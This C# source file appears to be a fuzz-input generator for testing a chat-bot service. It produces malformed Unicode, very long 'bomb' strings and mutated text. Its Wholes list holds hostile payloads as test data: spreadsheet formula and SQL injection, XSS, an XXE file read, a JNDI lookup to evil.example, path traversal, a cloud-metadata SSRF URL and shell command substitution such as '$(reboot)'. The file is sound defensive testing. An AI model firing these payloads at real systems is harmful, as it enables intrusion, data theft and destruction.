using System.Text;
using ServerlessAssist.Shared.Messaging;

namespace ServerlessAssist.Simulation.Hostile;

/// <summary>Texts as somebody writes them who means harm, does not care, or has an odd keyboard.</summary>
internal static class HostileText
{
    /// <summary>Single characters and pieces that have broken programs before.</summary>
    private static readonly string[] Sharp =
    [
        "\0", "\u0001", "\b", "\t", "\n", "\r", "\r\n", "\u001b[31m", "\u001b]0;x\u0007", "\u007f", "\u0085", "\u00a0", "\u00ad", "\u0301", "\u0316", "\u0489", "\u061c", "\u115f", "\u180e", "\u200b", "\u200d", "\u200e", "\u200f",
        "\u2028", "\u2029", "\u202a", "\u202e", "\u2060", "\u2066", "\u2069", "\ufe0f", "\ufeff", "\ufffd", "\ufffe", "\uffff", "\ud800", "\udfff", "\udc00\ud800", "\ud83d\ude00", "\ud83c\udde6\ud83c\uddf1", "\U000e0041", "\U0010ffff",
        "\u0660", "\u06f4", "\u0967", "\uff11", "\U0001d7d8", "\u2460", "\u00bd", "\u4e00", "\u0130", "\u0131", "\u017f", "\u212a", "\ufb01", "\u1e9e", "\ufdfa", "\u1100\u1161\u11a8", "\u00e7", "\u0063\u0327",
        "'", "\"", "`", "\\", "/", "<", ">", "&", "%", "%00", "%n", "{0}", "{", "}", "$", "${", "~", "|", ";", "--", "=", "+", "@", "#", "*", "?", "(", ")", "[", "]", "^", ".", ",", " ", "  ", "-", "\u2013", "\u2014", "_",
    ];

    private static readonly string[] Wholes =
    [
        "", " ", "\n", "\0", "null", "undefined", "NaN", "true", "0", "-0", "1e309", "2147483648", "-9223372036854775809", "00000000000000000000000000000000", "0x7fffffff",
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "'=1+1",
        "'; drop table streams; --", "' or PartitionKey ge '", "1' or '1'='1", "\") or true //", "x') and (RowKey ge '", "$filter=PartitionKey ne ''", "<script>alert(1)</script>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
        "</Message><Message>more", "]]>", "&lt;&#0;", "{{7*7}}", "${jndi:ldap://evil.example/x}", "#{7*7}", "%s%s%s%n%x", "{0} {reference} {1:N99999999}", "{code}", "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data",
        "javascript:alert(1)", "data:text/html,x", "$(reboot)", "`id`", "|| sleep 9 ||", "\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK", "\nError: forged line", "2026-03-02 08:00 [Error] forged", "\u001b[2J\u001b[31mforged\u001b[0m", "\u202eevals\u202c",
        "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c", "\ud800", "a\udc00b", "\ud83d", "\u200b\u200c\u200d\u2060\ufeff", "\u0660\u0661\u0662\u0663", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "((((((((((((((((((((a))))))))))))))))))))", "0000-0000", "AAAA-0000",
        "STOP", "stop!", "S\u200bTOP", "\uff33\uff34\uff2f\uff30", "STOP STOP STOP", "START", "help", "HELP ME", "/start", "/start ", "/start x", "/start ' or 1", "/help", "/language", "/stop", "/", "lang en", "lang xx", "Shqip", "shqip", "English", "take", "pass", "__proto__", "constructor", "toString",
    ];

    /// <summary>What is sent to keep a reader busy: built when it is drawn, for most inputs are short.</summary>
    private static readonly Func<int, string>[] Bombs =
    [
        size => new string('a', size), size => new string(' ', size), size => new string('-', size), size => "e" + new string('\u0301', size), size => new string('\u0301', size / 2) + new string('\u0316', size / 2), size => Repeat("\u0301\u0316", size), size => Repeat("7F3K-48", size),
        size => Repeat("0-", size), size => Repeat("pass ", size), size => Repeat("STOP ", size), size => new string('\ufdfa', size), size => Repeat("\u1100\u1161\u11a8", size), size => Repeat("\u202e\u2066", size), size => new string('\ud800', size), size => Repeat("\ud83d\ude00", size),
        size => Repeat("\u0344\u0345", size), size => Repeat("a\u0301\u0302\u0303\u0304", size), size => new string('\n', size), size => Repeat("{x", size), size => Repeat("((", size), size => Repeat("AAAA 0000 ", size), size => Repeat("\u0f71\u0f72\u0f74", size), size => new string('\u0660', size),
    ];

    private static readonly int[] Sizes = [159, 160, 161, 255, 300, 301, 1024, 1600, 1601, 4095, 4096, 4097, 8192, 16_384, 16_385];

    private static readonly string[] Words = [.. LanguageFile.All.Values.SelectMany(file => file.Words.SelectMany(list => list.Value)), .. LanguageFile.All.Values.Select(file => file.Name)];

    /// <summary>Any of them. Now and then long, seldom as long as a door lets in.</summary>
    /// <param name="most">In UTF-16 units, for a bomb.</param>
    public static string Any(Draw draw, int most = 20_000) => draw.Next(200) switch
    {
        0 => Bomb(draw, most),
        1 or 2 => Bomb(draw, Math.Min(draw.Of(Sizes), most)),
        < 70 => draw.Of(Wholes),
        < 100 => draw.Of(Words),
        < 130 => Mutated(draw, draw.Of(Words)),
        < 170 => Mutated(draw, draw.Of(Wholes)),
        _ => Noise(draw),
    };

    public static string Bomb(Draw draw, int size) => draw.Of(Bombs)(size);

    /// <summary>A text with one to three things done to it.</summary>
    public static string Mutated(Draw draw, string text)
    {
        for (var times = 1 + draw.Next(3); times > 0; times--)
        {
            var at = draw.Next(text.Length + 1);
            var rest = Math.Min(text.Length - at, 1 + draw.Next(4));
            text = draw.Next(9) switch
            {
                0 or 1 or 2 => text.Insert(at, draw.Of(Sharp)),
                3 => text.Remove(at, rest),
                4 => text.Insert(at, text.Substring(at, rest)),
                5 => draw.OneIn(2) ? text.ToUpperInvariant() : text.ToLowerInvariant(),
                6 => Digits(text, draw.Of(Zeros)),
                7 => $"{text[..at]}{draw.Of(Sharp)}{text[(at + rest)..]}",
                _ => $"{text}{draw.Of(Sharp)}{text}",
            };
        }
        return text;
    }

    /// <summary>0 in other scripts: a digit of any script is one.</summary>
    private static readonly char[] Zeros = ['\u0660', '\u06f0', '\u0966', '\uff10', '\u0e50'];

    private static string Digits(string text, char zero) => string.Create(text.Length, (text, zero), (all, given) =>
    {
        for (var at = 0; at < all.Length; at++) all[at] = char.IsAsciiDigit(given.text[at]) ? (char)(given.zero + given.text[at] - '0') : given.text[at];
    });

    private static string Noise(Draw draw)
    {
        var text = new StringBuilder();
        for (var left = 1 + draw.Next(12); left > 0; left--)
        {
            if (draw.OneIn(3)) text.Append((char)draw.Next(0x10000));
            else text.Append(draw.Of(Sharp));
        }
        return text.ToString();
    }

    private static string Repeat(string piece, int size) => string.Concat(Enumerable.Repeat(piece, size / piece.Length));
}
